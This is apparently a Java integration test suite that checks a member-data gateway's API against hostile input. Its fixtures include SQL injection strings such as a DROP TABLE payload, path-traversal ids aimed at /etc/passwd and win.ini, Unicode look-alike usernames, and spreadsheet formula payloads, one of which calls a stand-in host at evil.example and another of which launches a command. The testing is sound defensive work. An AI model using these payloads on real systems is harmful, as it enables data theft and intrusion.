package org.membergateway.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.membergateway.testing.ApiClient.basic;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.membergateway.GatewayApplication;
import org.membergateway.GatewayConfiguration;
import org.membergateway.acknowledgements.AcknowledgementService;
import org.membergateway.db.GatewayDatabase;
import org.membergateway.members.MemberCsv;
import org.membergateway.testing.ApiClient;
import org.membergateway.testing.TestElections;
import org.membergateway.policy.Office;
import org.membergateway.policy.ScopeType;
import org.membergateway.testing.GatewayTestApp;
import org.membergateway.testing.TestDatabases;
import org.membergateway.testing.TestPeople;
import org.membergateway.testing.UnionFixture;

/**
 * The hostile-input table of issue 14 for every endpoint that takes strings or ids, over real HTTP
 * (the size, depth, UTF-8, NUL and media-type cases are {@link HostileInputIntegrationTest}'s):
 *
 * <ul>
 *   <li>SQL injection in every string field of every JSON body: never a 5xx, a stack trace or a
 *       database message; a refusal is a 4xx in the one error shape; free text that is accepted is
 *       stored as sent (bind parameters only), and afterwards no table is gone, no member changed,
 *       the trail verifies;</li>
 *   <li>path traversal and injection in every path id: a 4xx in the error shape, never a file;</li>
 *   <li>Unicode look-alikes of usernames: refused as usernames, never an account beside the real one
 *       and never a sign-in as it;</li>
 *   <li>spreadsheet formulas in a members file: imported as the text they are (the database keeps
 *       the value) and written as text in every CSV the gateway produces (see docs/reliability.md).</li>
 * </ul>
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class HostileFieldsIntegrationTest {

    private static final String ADMIN_PASSWORD = "hostile-fields-admin-password";
    private static final String ADMIN = basic("admin", ADMIN_PASSWORD);
    private static final String STAFF = basic("staff21", "staff-21-password");
    private static final String AUDITOR = basic("auditor21", "auditor-21-password");
    static final DropwizardAppExtension<GatewayConfiguration> APP = GatewayTestApp.create(ADMIN_PASSWORD);
    private static final ObjectMapper JSON = new ObjectMapper();
    static final List<String> SQL = List.of("' OR '1'='1' --", "x'); DROP TABLE members; --", "1; SELECT pg_sleep(0) --");
    /** Texts that only a database error or a stack trace would put in an answer. */
    private static final String[] NEVER = {"Exception", "at org.", "at com.", "PSQL", "SQLState", "syntax error",
        "ERROR:", "relation \""};
    private static final AtomicInteger UNIQUE = new AtomicInteger();

    private static ApiClient api;
    private static Jdbi superuser;
    private static String key;
    private static long membersBefore;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @BeforeAll
    static void setUp() throws IOException {
        api = new ApiClient(APP.getLocalPort());
        superuser = GatewayDatabase.jdbi(TestDatabases.dataSource(APP.getConfiguration().getDatabase().getUrl(), "postgres"));
        UnionFixture.in(superuser).local("L021", "R2", "STATE_AGENCIES");
        TestElections.forCandidacy(superuser, "E-2027", Office.LOCAL_OFFICE, ScopeType.LOCAL, "L021");
        superuser.useHandle(h -> h.execute("""
                INSERT INTO members (member_id, first_name, last_name, local_id, region, employer_group, membership_status)
                SELECT 'H' || i, 'First' || i, 'Last' || i, 'L021', 'R2', 'STATE_AGENCIES', 'MEMBER'
                FROM generate_series(1, 5) AS i ON CONFLICT DO NOTHING"""));
        TestPeople.create(api, ADMIN, "staff21", "Staff 21", "staff-21-password", "STAFF", null);
        TestPeople.create(api, ADMIN, "auditor21", "Auditor 21", "auditor-21-password", "AUDITOR", null);
        TestPeople.create(api, ADMIN, "president21", "President 21", "president-21-password", "LOCAL_PRESIDENT", "L021");
        AcknowledgementService acknowledgements = APP.<GatewayApplication>getApplication().services().acknowledgements();
        TestPeople.acknowledgeEverything(api, acknowledgements, STAFF, "Staff 21");
        TestPeople.acknowledgeEverything(api, acknowledgements, basic("president21", "president-21-password"),
                "President 21");
        try (InputStream seed = HostileFieldsIntegrationTest.class.getResourceAsStream(
                "/org/membergateway/fuzz/OpenPgpKeyFuzzTestInputs/publicKeyUpload/armored-rsa3072")) {
            byte[] bytes = seed.readAllBytes();
            key = new String(bytes, 1, bytes.length - 1, StandardCharsets.US_ASCII);
        }
        membersBefore = members();
    }

    @AfterAll
    static void nothingWasDroppedOrChangedAndTheTrailVerifies() {
        assertThat(members()).as("no member gone or added by a string").isEqualTo(membersBefore);
        JsonNode verification = ApiClient.json(api.get("/api/v1/audit/verification", AUDITOR));
        assertThat(verification.path("valid").asBoolean()).as(verification.toString()).isTrue();
    }

    private static long members() {
        return superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM members").mapTo(Long.class).one());
    }

    /** One JSON endpoint: where, as whom, and a body that is valid apart from the field under test. */
    record Endpoint(String path, String authorization, String body) {
        ObjectNode template() {
            try {
                ObjectNode node = (ObjectNode) JSON.readTree(body.replace("$UNIQUE", "u" + UNIQUE.incrementAndGet()));
                if (node.has("openpgpPublicKey")) {
                    node.put("openpgpPublicKey", key);
                }
                return node;
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    static final String REQUEST = """
            {"purpose": "LOCAL_COMMUNICATION", "scope": {"type": "LOCAL", "id": "L021"},
             "filters": {"worksite": "Annex", "classification": "Clerk"}, "audience": "MEMBERS", "channel": "EMAIL",
             "fields": ["first_name", "last_name", "home_email"], "justification": "Bargaining update"}""";

    static List<Endpoint> endpoints() {
        String president = basic("president21", "president-21-password");
        return List.of(
                new Endpoint("/api/v1/decisions", president, REQUEST),
                new Endpoint("/api/v1/list-requests", president, REQUEST),
                new Endpoint("/api/v1/people", ADMIN, """
                        {"username": "p-$UNIQUE", "displayName": "Person", "password": "a-long-enough-password",
                         "roles": ["STEWARD"], "locals": ["L021"], "regions": ["R2"], "employerGroups": ["STATE_AGENCIES"],
                         "memberId": "H1"}"""),
                new Endpoint("/api/v1/people/president21/candidacies", ADMIN, """
                        {"office": "LOCAL_OFFICE", "scopeType": "LOCAL", "scopeId": "L021", "electionId": "E-2027"}"""),
                new Endpoint("/api/v1/elections", ADMIN, """
                        {"id": "E-$UNIQUE", "name": "Election $UNIQUE", "office": "LOCAL_OFFICE", "scopeType": "LOCAL",
                         "scopeId": "L021", "nominationsCloseOn": "2099-01-01", "electionDay": "2099-02-01",
                         "mailVendorId": 999999}"""),
                new Endpoint("/api/v1/campaigns", STAFF, """
                        {"name": "Drive $UNIQUE", "kind": "ORGANIZING", "scopeType": "LOCAL", "scopeId": "L021",
                         "startsOn": "2026-12-01", "endsOn": "2026-12-31"}"""),
                new Endpoint("/api/v1/vendors", ADMIN, """
                        {"name": "Mail house $UNIQUE", "service": "MAIL_HOUSE", "allowedFields": ["first_name", "home_street"],
                         "validFrom": "2026-12-01", "validUntil": "2027-12-01", "openpgpPublicKey": "set"}"""),
                new Endpoint("/api/v1/acknowledgements", STAFF, """
                        {"documentId": "confidentiality", "version": "1", "language": "en", "typedName": "Staff 21"}"""),
                new Endpoint("/api/v1/acknowledgements/paper", STAFF, """
                        {"username": "president21", "documentId": "confidentiality", "version": "1", "language": "en",
                         "signedOn": "2026-11-30", "witness": "Staff 21"}"""),
                new Endpoint("/api/v1/list-requests/1/approval", president, """
                        {"approve": true, "note": "fine"}"""),
                new Endpoint("/api/v1/list-requests/1/exports", president, """
                        {"encryption": "PASSPHRASE"}"""),
                new Endpoint("/api/v1/exports/trace", AUDITOR, """
                        {"values": ["someone@example.org"], "rows": [["First1", "Last1"]]}"""));
    }

    /** Every string in a body, by its JSON Pointer. */
    static List<String> stringPointers(JsonNode node, String at) {
        List<String> pointers = new ArrayList<>();
        if (node.isTextual()) {
            pointers.add(at);
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                pointers.addAll(stringPointers(node.get(i), at + "/" + i));
            }
        } else if (node.isObject()) {
            node.fieldNames().forEachRemaining(name -> pointers.addAll(stringPointers(node.get(name), at + "/" + name)));
        }
        return pointers;
    }

    static Stream<Arguments> sqlInEveryStringField() {
        List<Arguments> cases = new ArrayList<>();
        for (Endpoint endpoint : endpoints()) {
            for (String pointer : stringPointers(endpoint.template(), "")) {
                for (String sql : SQL) {
                    cases.add(Arguments.of(endpoint.path() + " " + pointer + " = " + sql, endpoint, pointer, sql));
                }
            }
        }
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("sqlInEveryStringField")
    void sqlInjectionInAStringFieldIsEitherRefusedInTheErrorShapeOrStoredAsText(String name, Endpoint endpoint,
                                                                                 String pointer, String sql) {
        ObjectNode body = endpoint.template();
        String parent = pointer.substring(0, pointer.lastIndexOf('/'));
        String last = pointer.substring(pointer.lastIndexOf('/') + 1);
        JsonNode container = parent.isEmpty() ? body : body.at(parent);
        if (container instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), sql);
        } else {
            ((ObjectNode) container).put(last, sql);
        }
        HttpResponse<String> response = api.postJson(endpoint.path(), endpoint.authorization(), body);
        assertThat(response.statusCode()).as(name + ": " + response.body()).isLessThan(500);
        assertThat(response.body()).as(name).doesNotContain(NEVER);
        if (response.statusCode() >= 400) {
            JsonNode error = ApiClient.json(response);
            HostileInputIntegrationTest.assertErrorShape(name, error);
            // An id or field name the client typed may be quoted back ("unknown document '...'"): it is
            // theirs, not member data, and the fuzz targets check that member values never are.
            assertThat(error.path("message").asText()).as(name).isNotBlank();
        }
    }

    @Test
    void freeTextThatLooksLikeSqlIsStoredAsSent() {
        String sql = SQL.get(1);
        HttpResponse<String> created = api.postJson("/api/v1/people", ADMIN, java.util.Map.of("username", "bobby-tables",
                "displayName", sql, "password", "a-long-enough-password", "roles", List.of("MEMBER")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(ApiClient.json(api.get("/api/v1/people/bobby-tables", ADMIN)).path("displayName").asText())
                .isEqualTo(sql);
    }

    static Stream<Arguments> traversalInPathIds() {
        List<String> ids = List.of("..%2F..%2F..%2Fetc%2Fpasswd", "..%252F..%252Fetc%252Fpasswd", "%2e%2e",
                "1%20OR%201%3D1", "1'%3B--", "-1", "99999999999999999999999");
        List<String> templates = List.of("/api/v1/list-requests/{}", "/api/v1/exports/{}", "/api/v1/people/{}",
                "/api/v1/vendors/{}", "/api/v1/campaigns/{}", "/api/v1/elections/{}", "/api/v1/elections/{}/terms", "/api/v1/policy-documents/{}/1/en",
                "/api/v1/audit/entries/{}/proof?treeSize=1");
        List<Arguments> cases = new ArrayList<>();
        for (String template : templates) {
            for (String id : ids) {
                cases.add(Arguments.of(template.replace("{}", id)));
            }
        }
        // Dot segments in the path itself: Jetty refuses them before any resource.
        cases.add(Arguments.of("/api/v1/people/../../../etc/passwd"));
        cases.add(Arguments.of("/api/v1/exports/..;/..;/etc/passwd"));
        cases.add(Arguments.of("/api/v1/policy-documents/..%5C..%5Cwindows%5Cwin.ini/1/en"));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("traversalInPathIds")
    void aHostilePathIdIsA4xxInTheErrorShape(String path) throws Exception {
        String who = path.contains("/audit/") ? AUDITOR : ADMIN;
        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(
                "http://127.0.0.1:" + APP.getLocalPort() + path)).header("Authorization", who).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as(path + ": " + response.body()).isBetween(400, 499);
        assertThat(response.headers().firstValue("Content-Type")).as(path)
                .hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
        HostileInputIntegrationTest.assertErrorShape(path, JSON.readTree(response.body()));
        assertThat(response.body()).as(path).doesNotContain(NEVER).doesNotContain("root:", "[fonts]");
    }

    @Test
    void aNulInAPathIsRefusedBeforeAnyResource() throws Exception {
        // Jetty's servlet layer refuses it with its own HTML page (not the JSON error shape): a defect
        // left open (docs/reliability.md); what matters here is that it is a 400 and nothing is read.
        for (String path : List.of("/api/v1/people/%00", "/api/v1/exports/%00", "/api/v1/list-requests/1%00")) {
            HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(
                    "http://127.0.0.1:" + APP.getLocalPort() + path)).header("Authorization", ADMIN).GET().build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(path).isEqualTo(400);
            assertThat(response.body()).as(path).doesNotContain(NEVER);
        }
    }

    /** Look-alikes of "admin": Cyrillic а, Greek ο... and the Kelvin sign, which lower-cases to ASCII 'k'. */
    static Stream<String> lookAlikes() {
        return Stream.of("\u0430dmin", "adm\u0456n", "\u0251dmin", "ADM\u0130N", "admin\u200B", "\uFF41dmin",
                "\u212Aate");
    }

    @ParameterizedTest
    @MethodSource("lookAlikes")
    void aUnicodeLookAlikeIsNoUsernameNorASignIn(String lookAlike) {
        HttpResponse<String> created = api.postJson("/api/v1/people", ADMIN, java.util.Map.of("username", lookAlike,
                "displayName", "Look-alike", "password", ADMIN_PASSWORD, "roles", List.of("ADMIN")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(400);
        JsonNode error = ApiClient.json(created);
        HostileInputIntegrationTest.assertErrorShape(lookAlike, error);
        assertThat(error.path("field").asText()).isEqualTo("username");
        assertThat(created.body()).doesNotContain(lookAlike);

        HttpResponse<String> signIn = api.get("/api/v1/me", basic(lookAlike, ADMIN_PASSWORD));
        assertThat(signIn.statusCode()).as("the real admin's password with a look-alike name").isEqualTo(401);
        assertThat(ApiClient.json(signIn).path("error").asText()).isEqualTo("MALFORMED_CREDENTIALS");
        long people = superuser.withHandle(h -> h.createQuery("SELECT count(*) FROM people WHERE username <> lower(username)"
                + " OR username !~ '^[a-z0-9][a-z0-9._@-]+$'").mapTo(Long.class).one());
        assertThat(people).as("no stored username outside restricted ASCII").isZero();
    }

    @Test
    void formulaCellsInAMembersFileAreImportedAsText() {
        String header = String.join(",", MemberCsv.COLUMNS);
        String[] formulas = {"=HYPERLINK(\"http://evil.example/\"&A1)", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"};
        StringBuilder file = new StringBuilder(header).append('\n');
        for (int i = 0; i < formulas.length; i++) {
            String[] row = new String[MemberCsv.COLUMNS.size()];
            Arrays.fill(row, "");
            row[MemberCsv.COLUMNS.indexOf("member_id")] = "F" + i;
            row[MemberCsv.COLUMNS.indexOf("first_name")] = "\"" + formulas[i].replace("\"", "\"\"") + "\"";
            row[MemberCsv.COLUMNS.indexOf("last_name")] = "Formula";
            row[MemberCsv.COLUMNS.indexOf("local_id")] = "L022";
            row[MemberCsv.COLUMNS.indexOf("region")] = "R2";
            row[MemberCsv.COLUMNS.indexOf("employer_group")] = "STATE_AGENCIES";
            row[MemberCsv.COLUMNS.indexOf("membership_status")] = "MEMBER";
            row[MemberCsv.COLUMNS.indexOf("cape_contributor")] = "false";
            row[MemberCsv.COLUMNS.indexOf("worksite_leader")] = "false";
            row[MemberCsv.COLUMNS.indexOf("steward")] = "false";
            file.append(String.join(",", row)).append('\n');
        }
        HttpResponse<String> imported = api.post("/api/v1/members/import", ADMIN, "text/csv", file.toString());
        assertThat(imported.statusCode()).as(imported.body()).isEqualTo(200);
        List<String> stored = superuser.withHandle(h -> h.createQuery(
                "SELECT first_name FROM members WHERE member_id LIKE 'F%' ORDER BY member_id").mapTo(String.class).list());
        assertThat(stored).as("the database keeps the value").containsExactly(formulas);
        // The count the @AfterAll checks leaves these four out.
        membersBefore += formulas.length;
    }

    @Test
    void aMembersFileWhoseFirstByteIsNotUtf8IsA400() throws Exception {
        // Found by fuzz.MemberCsvFuzzTest: it was a 500.
        byte[] header = String.join(",", MemberCsv.COLUMNS).getBytes(StandardCharsets.UTF_8);
        byte[] file = new byte[header.length + 1];
        file[0] = (byte) 0xFF;
        System.arraycopy(header, 0, file, 1, header.length);
        HttpResponse<String> refused = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:"
                        + APP.getLocalPort() + "/api/v1/members/import")).header("Authorization", ADMIN)
                .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofByteArray(file)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
        JsonNode error = ApiClient.json(refused);
        assertThat(error.path("error").asText()).isEqualTo("INVALID_CSV");
        assertThat(error.path("message").asText()).contains("UTF-8");
    }
}
